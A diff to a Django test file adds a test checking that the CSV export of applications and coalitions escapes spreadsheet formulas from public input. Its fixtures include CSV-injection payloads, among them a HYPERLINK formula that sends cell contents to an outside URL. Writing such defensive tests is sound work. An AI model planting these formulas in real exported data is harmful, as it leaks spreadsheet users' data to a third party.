@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 from django.contrib.auth.models import Group
 
@@ -61,6 +64,42 @@ def test_the_coaching_group_exports_csv(coaching_client, applications):
     rows = b"".join(response.streaming_content).decode().splitlines()
     assert len(rows) == 10
     assert applications[0].email in "\n".join(rows)
+
+
+HOSTILE = '=HYPERLINK("https://example.org/?d="&A1,"Open")'
+
+
+@pytest.mark.parametrize(
+    ("url", "register", "data"),
+    [
+        (
+            APPLICATIONS,
+            coaching_application_create,
+            application_data(
+                municipality=HOSTILE, coalition_name="+1+1", motivation="\t=1+1", phone="-2+3"
+            ),
+        ),
+        (
+            "/admin/coalitions/",
+            coalition_register,
+            coalition_data(municipality="@SUM(1,1)", name=HOSTILE, partners="\r=1+1"),
+        ),
+    ],
+)
+def test_the_csv_export_neutralises_formulas_from_public_input(
+    coaching_client, coaching_page, coalition_page, url, register, data
+):
+    page = coaching_page if register is coaching_application_create else coalition_page
+    register(page=page, language="nl", **data)
+
+    response = coaching_client.get(url, {"export": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = set(rows[0].values())
+    for value in data.values():
+        if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert "'" + value in cells
+            assert value not in cells
 
 
 def test_the_coaching_group_inspects_an_application(coaching_client, applications):
